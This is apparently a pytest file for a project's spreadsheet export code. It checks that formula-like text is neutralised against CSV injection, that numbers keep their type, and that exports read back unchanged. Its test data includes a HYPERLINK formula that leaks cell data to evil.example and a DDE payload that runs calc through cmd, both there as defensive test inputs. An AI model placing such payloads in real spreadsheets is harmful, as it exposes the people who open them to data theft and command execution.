"""The one spreadsheet writer: text a spreadsheet would run as a formula goes out harmless
(OWASP, "CSV Injection"), numbers stay numbers, and what is exported reads back the same.

Files are read back with openpyxl and the csv module, not with the code under test, except for
the round trips, which are what the importers see."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from degs.core.tabular import read_table, write_csv, write_xlsx, write_xlsx_sheets

# OWASP's first characters: =, +, -, @, tab and carriage return.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&B2, "Click for details")',
    "=1+1",
    "+91 98765 43210",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def xlsx_cells(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_xlsx_writes_formula_like_text_as_text(text) -> None:
    [header, row] = xlsx_cells(write_xlsx([text], [[text, "plain"]], title="t"))
    for cell in (header[0], row[0]):
        assert cell.data_type == "s" and cell.data_type != "f"
        # nothing added: the cell is text, marked to stay text (XML reads a CR as a line feed)
        assert cell.value in (text, text.replace("\r", "\n"))
        assert cell.quotePrefix
    assert (row[1].value, row[1].quotePrefix) == ("plain", False)


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_puts_a_quote_before_formula_like_text(text) -> None:
    [header, row] = csv_rows(write_csv([text], [[text, "plain"]]))
    assert header == ["'" + text]
    assert row == ["'" + text, "plain"]


def test_numbers_stay_numbers() -> None:
    values = [Decimal("-12.50"), -3, 2.5, 0, True]
    [row] = xlsx_cells(write_xlsx_sheets([("t", ["a", "b", "c", "d", "e"], [values])]))[1:]
    assert [c.data_type for c in row] == ["n", "n", "n", "n", "b"]
    assert [c.value for c in row] == [Decimal("-12.5"), -3, 2.5, 0, True]
    [_header, line] = csv_rows(write_csv(["a", "b", "c", "d", "e"], [values]))
    assert line == ["-12.50", "-3", "2.5", "0", "True"]


def test_text_that_only_looks_like_an_error_or_has_quotes_is_kept_as_text() -> None:
    [_h, row] = xlsx_cells(write_xlsx(["a", "b"], [["#N/A", "'=typed with a quote"]], title="t"))
    assert [(c.value, c.data_type) for c in row] == [
        ("#N/A", "s"),
        ("'=typed with a quote", "s"),
    ]


# Text without runs of white space, which the importers fold (clean_text) whatever the writer.
TEXT = st.text(
    alphabet=st.sampled_from(list("=+-@'\"AZaz09,;|!()&#/.\u0915\u093e")), min_size=1
).filter(lambda t: t.strip() == t)


@given(st.lists(TEXT, min_size=1, max_size=5))
def test_every_text_reads_back_as_it_was_written(texts) -> None:
    header = [f"c{i}" for i in range(len(texts))]
    for name, content in (
        ("x.csv", write_csv(header, [texts])),
        ("x.xlsx", write_xlsx(header, [texts], title="t")),
    ):
        [row] = read_table(name, content).rows
        assert [row.values[h] for h in header] == texts, name


def test_every_spreadsheet_the_project_gives_out_is_written_by_the_one_writer() -> None:
    """Another writer would miss the escaping: none may exist outside degs/core/tabular.py."""
    root = Path(__file__).resolve().parents[2] / "degs"
    writer = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|\.to_excel\(")
    elsewhere = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "tabular.py" and writer.search(path.read_text(encoding="utf-8"))
    ]
    assert elsewhere == []


# Each export of the directory, as the district downloads it ---------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["areas", "offices"])
def test_directory_exports_never_carry_a_live_formula(world, client_as, kind) -> None:
    from django.urls import reverse

    from degs.directory.models import Area, Office

    Office.objects.filter(pk=world.office_a1.pk).update(name=FORMULAS[0])
    Area.objects.filter(pk=world.gp_a1.pk).update(name=FORMULAS[3])
    client = client_as(world.dc_a)
    url = reverse("directory:export") + f"?kind={kind}"
    xlsx = xlsx_cells(client.get(url + "&format=xlsx").content)
    cells = [c for row in xlsx for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    shown = FORMULAS[0] if kind == "offices" else FORMULAS[3]
    found = [(c.data_type, c.quotePrefix) for c in cells if c.value == shown]
    assert found and set(found) == {("s", True)}
    rows = csv_rows(client.get(url + "&format=csv").content)
    assert "'" + shown in [c for row in rows for c in row]
    assert [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@")] == []
